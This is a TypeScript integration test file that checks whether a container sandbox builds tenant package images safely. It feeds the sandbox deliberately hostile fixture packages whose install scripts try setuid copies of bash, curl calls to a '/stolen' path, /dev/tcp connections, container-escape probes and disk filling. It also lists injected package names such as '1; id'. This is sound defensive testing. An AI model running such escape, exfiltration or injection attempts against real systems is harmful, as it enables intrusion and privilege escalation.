/**
 * Images with packages, on the real engine: of this machine's real registries, and of a repository
 * whose packages mean harm.
 */
import { execFileSync } from 'node:child_process'
import { createHash, randomUUID } from 'node:crypto'
import { existsSync, readFileSync } from 'node:fs'
import { createServer, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { createResolve } from '../../sandbox-runner/src/front/resolve.ts'
import { imageName } from '../../sandbox-runner/src/launcher/packages-image.ts'
import {
  type ImageBuildEvent,
  imageBuildEventSchema,
  type PinnedPackage,
  packagesText,
  type WirePackage,
} from '../../src/isolation/contract.ts'
import { CEILINGS } from '../../src/isolation/limits.ts'
import { createRunnerSandbox } from '../../src/isolation/runner-client.ts'
import { createMemoryWorkspace } from '../support/memory-workspace.ts'
import { aptRepository, tarOf } from './apt-repository.ts'
import { baseImage, type InProcessRunner, startInProcess } from './in-process-runner.ts'
import { findRegistries, type Registries } from './registries.ts'
import {
  containersOf,
  engine,
  ensureImage,
  job,
  missingEngine,
  type RunnerAddress,
  run,
  send,
  sha256,
} from './runner-process.ts'

const missing = await missingEngine()
const CERTIFICATES = '/etc/ssl/certs/ca-certificates.crt'
const BUILD_TEST_MS = 300_000
const BIG = { maxBuffer: 32 * 1024 * 1024 }
/** Shows in the image that somebody's script ran. */
const RAN = 'touch /opt/ran'
const INSTALL = new URL('../../sandbox-runner/src/front/install.sh', import.meta.url)
const NPM_VERSION = /^readonly npm_version=(\S+)$/m.exec(readFileSync(INSTALL, 'utf8'))?.[1]

async function build(
  runner: RunnerAddress,
  packages: readonly unknown[],
  tenant: string,
): Promise<{ status: number; events: readonly ImageBuildEvent[]; last: ImageBuildEvent | null }> {
  const body = JSON.stringify({ packages })
  const exec = `image-${sha256(body).slice(0, 40)}`
  const response = await send(runner, 'POST', '/v1/images', exec, body, { tenant })
  const text = await response.text()
  if (!response.ok) return { status: response.status, events: [], last: null }
  const events = text
    .split('\n')
    .filter((line) => line !== '')
    .map((line) => imageBuildEventSchema.parse(JSON.parse(line)))
  return { status: response.status, events, last: events.at(-1) ?? null }
}

const built = (event: ImageBuildEvent | null): readonly PinnedPackage[] => {
  if (event?.event !== 'built') throw new Error(JSON.stringify(event))
  return event.packages
}

const withPackages = (packages: readonly PinnedPackage[], script: string) =>
  job(script, { profile: { packages: [...packages] } })

const nameOf = (tenant: string, packages: readonly PinnedPackage[]): string =>
  imageName({ owner: sha256(tenant), packages: sha256(packagesText(packages)) })

/** Of this test alone: its images go when it ends. */
const used = new Map<string, readonly PinnedPackage[]>()
const tenantFor = (): string => `ten_${randomUUID().slice(0, 12)}`

async function removeImages(): Promise<void> {
  for (const [tenant, packages] of used) {
    await engine.removeImage(nameOf(tenant, packages)).catch(() => {})
  }
  used.clear()
}

describe.skipIf(missing !== null)('an image with packages', () => {
  let runner: InProcessRunner
  let registries: Registries
  beforeAll(async () => {
    ensureImage()
    registries = await findRegistries()
    runner = await startInProcess({
      addresses: { resolve: createResolve([]) },
      builds: {
        hosts: registries.hosts,
        apt: registries.apt.map((source) => `deb ${source}`).join('\n'),
        pip: registries.pip ?? '',
        npm: registries.npm,
        certificates: existsSync(CERTIFICATES) ? readFileSync(CERTIFICATES, 'utf8') : '',
      },
    })
  })
  afterAll(async () => {
    await removeImages()
    await runner?.stop()
    registries?.close()
  })

  it(
    'is built of each manager’s packages, pinned, and used by its tenant without network',
    async () => {
      const tenant = tenantFor()
      const asked: WirePackage[] = [
        { manager: 'apt', name: 'figlet' },
        { manager: 'npm', name: 'left-pad' },
        { manager: 'pip', name: 'six' },
      ]
      const first = await build(runner, asked, tenant)
      const packages = built(first.last)
      used.set(tenant, packages)
      expect(packages.map(({ manager, name }) => `${manager}:${name}`)).toEqual([
        'apt:figlet',
        'npm:left-pad',
        'pip:six',
      ])
      expect(first.events.some(({ event }) => event === 'progress')).toBe(true)

      const script = `figlet -f small hi >/dev/null && echo figlet
NODE_PATH=/usr/local/lib/node_modules node -e "console.log(require('left-pad')('x', 3, '-'))"
python3 -c 'import six; print("six", six.__version__)'
find / -xdev -perm /6000 2>/dev/null | head -3
id -u; grep -c . /proc/net/dev; ls /var/lib/apt/lists /var/cache/apt; sh --version | head -1`
      const ran = await run(runner, withPackages(packages, script), { tenant })
      const six = packages.find(({ name }) => name === 'six')?.version
      expect(ran.stdout).toMatch(
        new RegExp(`^figlet\\n--x\\nsix ${six}\\n20001\\n3\\n.*GNU bash`, 's'),
      )

      // Once more, pinned: it is there.
      const again = await build(runner, packages, tenant)
      expect(again.events).toHaveLength(1)
      expect(built(again.last)).toEqual(packages)

      // Nobody else's, whoever asks for the same list.
      const foreign = await run(runner, withPackages(packages, 'true'), { tenant: tenantFor() })
      expect(foreign.error).toMatchObject({ code: 'IMAGE_MISSING' })
      const other = withPackages(packages.slice(1), 'true')
      expect((await run(runner, other, { tenant })).error).toMatchObject({ code: 'IMAGE_MISSING' })
    },
    BUILD_TEST_MS,
  )

  it(
    'is not built of what is not there',
    async () => {
      const tenant = tenantFor()
      for (const name of ['no-such-package-of-this-name', 'figle.']) {
        const { last } = await build(runner, [{ manager: 'apt', name }], tenant)
        expect(last).toMatchObject({ event: 'error', code: 'BUILD_FAILED' })
        expect(JSON.stringify(last)).toContain('Unable to locate package')
      }
      const wrong = [{ manager: 'apt', name: 'figlet', version: '0.0.1' }]
      expect((await build(runner, wrong, tenant)).last).toMatchObject({ code: 'BUILD_FAILED' })
      await expect.poll(async () => (await containersOf(runner)).length).toBe(0)
    },
    BUILD_TEST_MS,
  )

  it.each([
    [{ manager: 'apt', name: '-oAPT::Update::Pre-Invoke::=id' }],
    [{ manager: 'apt', name: 'bash-' }],
    [{ manager: 'apt', name: './x.deb' }],
    [{ manager: 'apt', name: 'figlet', version: '1; id' }],
    [{ manager: 'pip', name: '--index-url=http://x' }],
    [{ manager: 'pip', name: 'git+https://example.org/x' }],
    [{ manager: 'pip', name: 'six', version: '1 --pre' }],
    [{ manager: 'npm', name: 'file:..' }],
    [{ manager: 'npm', name: 'user/repository' }],
    [{ manager: 'npm', name: 'left-pad', version: 'npm:other@1.0.0' }],
    [{ manager: 'gem', name: 'x' }],
  ])('is never asked for as %j', async (asked) => {
    expect((await build(runner, [asked], tenantFor())).status).toBe(400)
  })

  it('is none that a job may name itself', async () => {
    const tenant = tenantFor()
    const image = nameOf(tenant, [{ manager: 'apt', name: 'figlet', version: '1' }])
    const named = await run(runner, job('true', { profile: { image } }), { tenant })
    expect(named.error).toMatchObject({ code: 'INVALID_JOB' })
  })

  it('is not built by a runner without registries', async () => {
    const closed = await startInProcess({ addresses: { resolve: createResolve([]) } })
    try {
      const body = JSON.stringify({ packages: [{ manager: 'apt', name: 'figlet' }] })
      const response = await send(closed, 'POST', '/v1/images', 'image-x', body)
      expect(response.status).toBe(400)
      expect(await response.text()).toContain('EDGECLAW_BUILD_HOSTS')
    } finally {
      await closed.stop()
    }
  })
})

describe.skipIf(missing !== null)('a package of npm or pip', () => {
  let server: Server
  let runner: InProcessRunner
  let registries: Registries
  beforeAll(async () => {
    ensureImage()
    registries = await findRegistries()
    const files = new Map<string, Buffer>()
    server = createServer((request, response) => {
      const file = files.get(request.url ?? '')
      if (file === undefined) response.writeHead(404).end()
      else response.end(file)
    })
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
    const base = `http://registry.test:${(server.address() as AddressInfo).port}`
    const npmArchive = `/npm/-/npm-${NPM_VERSION}.tgz`
    files.set(npmArchive, execFileSync('curl', ['-fsSL', `${registries.npm}${npmArchive}`], BIG))
    const evil: Record<string, object> = {
      'evil-scripts': { scripts: { preinstall: RAN, install: RAN, postinstall: RAN } },
      'evil-git': { dependencies: { x: 'git+https://other.test/x.git' } },
      'evil-url': { dependencies: { x: 'https://other.test/x.tgz' } },
    }
    for (const [name, more] of Object.entries(evil)) {
      const manifest = { name, version: '1.0.0', ...more }
      const archive = await tarOf({ 'package/package.json': JSON.stringify(manifest) })
      const tarball = `${base}/${name}.tgz`
      const integrity = `sha512-${createHash('sha512').update(archive).digest('base64')}`
      const version = { ...manifest, dist: { tarball, integrity } }
      const document = { name, 'dist-tags': { latest: '1.0.0' }, versions: { '1.0.0': version } }
      files.set(`/${name}`, Buffer.from(JSON.stringify(document)))
      files.set(`/${name}.tgz`, archive)
    }
    const source = 'evil-1.0.tar.gz'
    files.set('/simple/evil/', Buffer.from(`<a href="/${source}">${source}</a>`))
    files.set(
      `/${source}`,
      await tarOf({
        'evil-1.0/setup.py': `import os; os.system(${JSON.stringify(RAN)})`,
        'evil-1.0/PKG-INFO': 'Metadata-Version: 1.0\nName: evil\nVersion: 1.0\n',
      }),
    )
    const resolve = createResolve([])
    runner = await startInProcess({
      addresses: {
        resolve: async (host) => (host === 'registry.test' ? ['127.0.0.1'] : resolve(host)),
      },
      builds: {
        hosts: [...registries.hosts, new URL(base).host],
        apt: registries.apt.map((source) => `deb ${source}`).join('\n'),
        pip: `${base}/simple`,
        npm: base,
      },
    })
  })
  afterAll(async () => {
    await removeImages()
    await runner?.stop()
    registries?.close()
    server?.close()
  })

  it(
    'runs no script of its own when it is installed',
    async () => {
      const tenant = tenantFor()
      const { last } = await build(runner, [{ manager: 'npm', name: 'evil-scripts' }], tenant)
      used.set(tenant, built(last))
      const script = 'ls -d /usr/local/lib/node_modules/evil-scripts /opt/ran; which npm; ls /tmp'
      const ran = await run(runner, withPackages(built(last), script), { tenant })
      expect(ran.stdout).toBe('/usr/local/lib/node_modules/evil-scripts\n')
    },
    BUILD_TEST_MS,
  )

  it.each([
    { manager: 'npm', name: 'evil-git', says: /git/ },
    { manager: 'npm', name: 'evil-url', says: /403|unable to access|proxy/i },
    { manager: 'pip', name: 'evil', says: /No matching distribution/ },
  ])(
    'is not fetched past the registry, nor made of its source: $name',
    async ({ says, ...asked }) => {
      const { last } = await build(runner, [asked], tenantFor())
      const message = expect.stringMatching(says)
      expect(last).toMatchObject({ event: 'error', code: 'BUILD_FAILED', message })
    },
    BUILD_TEST_MS,
  )
})

describe.skipIf(missing !== null)('a package that means harm', () => {
  let server: Server
  let runner: InProcessRunner
  let port = 0
  const requests: string[] = []
  beforeAll(async () => {
    ensureImage()
    const files = new Map<string, Buffer>()
    server = createServer((request, response) => {
      requests.push(`${request.headers.host} ${request.url}`)
      const file = files.get(normalizedPath(request.url ?? ''))
      if (file === undefined) response.writeHead(404).end()
      else response.end(file)
    })
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
    port = (server.address() as AddressInfo).port
    const tries = [
      'cp /bin/bash /opt/suid && chmod 6755 /opt/suid && ls -l /opt/suid >&2',
      `for host in other.test:${port} 127.0.0.1:${port} registry.test:22; do
         curl -sS --max-time 5 http://$host/stolen >&2; curl -sSk --max-time 5 https://$host/stolen >&2
       done
       (exec 4<>/dev/tcp/127.0.0.1/${port}) 2>&1; (exec 4<>/dev/tcp/10.0.0.1/80) 2>&1
       true`,
    ]
    const packages = [
      { name: 'harm-tries', version: '1.0', postinst: tries.join('\n') },
      {
        name: 'harm-escapes',
        version: '1.0',
        postinst: `{ for path in /proc/sys/kernel/hostname /proc/sysrq-trigger /sys/kernel/mm/ksm/run; do
           echo x >$path && echo "wrote $path"; done
           mount -t tmpfs x /mnt && echo mounted; mknod /tmp/disk b 8 0 && echo mknod
           unshare -U true && echo unshared; chroot / true && echo chroot
           ls /var/run/docker.sock /proc/1/root/.dockerenv; grep -i nonewprivs /proc/self/status; } >&2; true`,
      },
      { name: 'harm-hangs', version: '1.0', postinst: 'sleep 600' },
      {
        name: 'harm-fills',
        version: '1.0',
        postinst:
          'for n in 1 2 3 4 5 6; do head -c 200M /dev/zero >/opt/fill$n; sleep 1; done; sleep 600',
      },
      {
        name: 'harm-stays',
        version: '1.0',
        postinst:
          'setsid bash -c "sleep 600" </dev/null >/dev/null 2>&1 & printf "\\e[31mred\\a\\n" >&2',
      },
      {
        name: 'harm-lies',
        version: '1.0',
        postinst: 'printf "apt\\tother\\t1\\n" >&3; echo "apt	x	1"',
      },
    ]
    for (const [path, file] of await aptRepository(packages)) files.set(path, file)
    runner = await startInProcess({
      addresses: {
        resolve: async (host) => (host.endsWith('.test') ? ['127.0.0.1'] : []),
      },
      builds: {
        hosts: [`registry.test:${port}`],
        apt: `deb [trusted=yes] http://registry.test:${port} ./`,
        pip: `http://registry.test:${port}/simple`,
        npm: `http://registry.test:${port}`,
      },
      buildTimeoutMs: 20_000,
      maxDiskBytes: 300 * 1024 * 1024,
    })
  })
  afterAll(async () => {
    await removeImages()
    await runner?.stop()
    server?.close()
  })
  const normalizedPath = (url: string): string =>
    new URL(url, 'http://x').pathname.replace('/./', '/')

  const harm = async (name: string) => {
    const tenant = tenantFor()
    const result = await build(runner, [{ manager: 'apt', name }], tenant)
    if (result.last?.event === 'built') used.set(tenant, result.last.packages)
    const said = result.events.flatMap((event) => (event.event === 'progress' ? [event.line] : []))
    return { ...result, tenant, said: said.join('\n') }
  }

  it('reaches nothing but its registry, and leaves nothing setuid', async () => {
    const { last, tenant, said } = await harm('harm-tries')
    expect(said).toContain('-rwsr-sr-x')
    expect(said).not.toContain('registry.test:')
    expect(requests.filter((line) => line.includes('stolen'))).toEqual([])
    expect(requests.length).toBeGreaterThan(0)
    const script = 'stat -c %a /opt/suid; /opt/suid -p -c "id -u; grep CapEff /proc/self/status"'
    const ran = await run(runner, withPackages(built(last), script), { tenant })
    expect(ran.stdout).toMatch(/^755\n20001\nCapEff:\s+0{16}\n$/)
  })

  it('has no power beyond its own files', async () => {
    const { said } = await harm('harm-escapes')
    expect(said).not.toMatch(/^(?:wrote .*|mounted|mknod|unshared|chroot)$/m)
    expect(said).toMatch(/^mount: .*permission denied/m)
    expect(said).toMatch(/NoNewPrivs:\s+1/)
  })

  it('hangs no longer than a build may take', async () => {
    const { last } = await harm('harm-hangs')
    expect(last).toMatchObject({ event: 'error', code: 'TIMEOUT' })
    await expect.poll(async () => (await containersOf(runner)).length).toBe(0)
  })

  it('fills no more than a build may write', async () => {
    const { last } = await harm('harm-fills')
    expect(last).toMatchObject({ event: 'error', code: 'BUILD_FAILED' })
    await expect.poll(async () => (await containersOf(runner)).length).toBe(0)
  })

  it('leaves no process, no terminal’s orders, and no label of its build', async () => {
    const { last, tenant, said } = await harm('harm-stays')
    expect(said).toMatch(/^red$/m)
    const packages = built(last)
    const { labels } = (await engine.inspectImage(nameOf(tenant, packages))) ?? { labels: {} }
    expect(labels).toMatchObject({
      'edgeclaw.tenant': sha256(tenant),
      'edgeclaw.packages': sha256(packagesText(packages)),
      'edgeclaw.base': await engine.imageId(baseImage()),
      'edgeclaw.runner': '',
    })
    expect(JSON.stringify(labels)).not.toContain(tenant)
  })

  it('cannot say that another one was installed', async () => {
    const { last } = await harm('harm-lies')
    expect(built(last)).toEqual([{ manager: 'apt', name: 'harm-lies', version: '1.0' }])
  })

  it('is built once, however many ask, and one list at a time for a tenant', async () => {
    const tenant = tenantFor()
    const list = [{ manager: 'apt', name: 'harm-stays' }]
    const [one, two] = await Promise.all([build(runner, list, tenant), build(runner, list, tenant)])
    expect(built(one.last)).toEqual(built(two.last))
    used.set(tenant, built(one.last))
    const debs = requests.filter((line) => line.includes('harm-stays_'))
    const hanging = build(runner, [{ manager: 'apt', name: 'harm-hangs' }], tenant)
    await expect.poll(() => requests.some((line) => line.includes('harm-hangs_'))).toBe(true)
    expect((await build(runner, list, tenant)).status).toBe(429)
    expect((await hanging).last).toMatchObject({ code: 'TIMEOUT' })
    expect(debs.length).toBe(requests.filter((line) => line.includes('harm-stays_')).length)
  })

  it('is built by a job that lacks it, as the gateway sends one', async () => {
    const tenant = tenantFor()
    const packages: PinnedPackage[] = [{ manager: 'apt', name: 'harm-stays', version: '1.0' }]
    used.set(tenant, packages)
    const slow: string[] = []
    const sandbox = createRunnerSandbox({
      runners: [runner.endpoint],
      signKey: runner.signKey,
      fetch: (input, init) => fetch(input, init),
      workspace: createMemoryWorkspace(),
      tenant,
      session: 'agent:main:ws:direct:packages',
      workspaceId: `${tenant}/agt_1/packages`,
      access: 'rw',
      scope: 'session',
      limits: CEILINGS,
      packages,
      now: Date.now,
    })
    const result = await sandbox.exec(
      {
        execId: `exec-${randomUUID()}`,
        isResumed: false,
        command: 'cat /opt/harm-stays',
        cwd: '',
        hasSeenUntrusted: false,
      },
      { signal: new AbortController().signal, onSlow: (reason) => slow.push(reason) },
    )
    expect(result).toMatchObject({ ok: true, value: { stdout: 'installed\n', exitCode: 0 } })
    expect(slow).toHaveLength(1)
  })

  it('is gone when the base image is another one', async () => {
    const { last, tenant } = await harm('harm-stays')
    const other = await startInProcess({
      addresses: { resolve: async () => [] },
      image: nameOf(tenant, built(last)),
    })
    try {
      const ran = await run(other, withPackages(built(last), 'true'), { tenant })
      expect(ran.error).toMatchObject({ code: 'IMAGE_MISSING' })
    } finally {
      await other.stop()
    }
  })
})
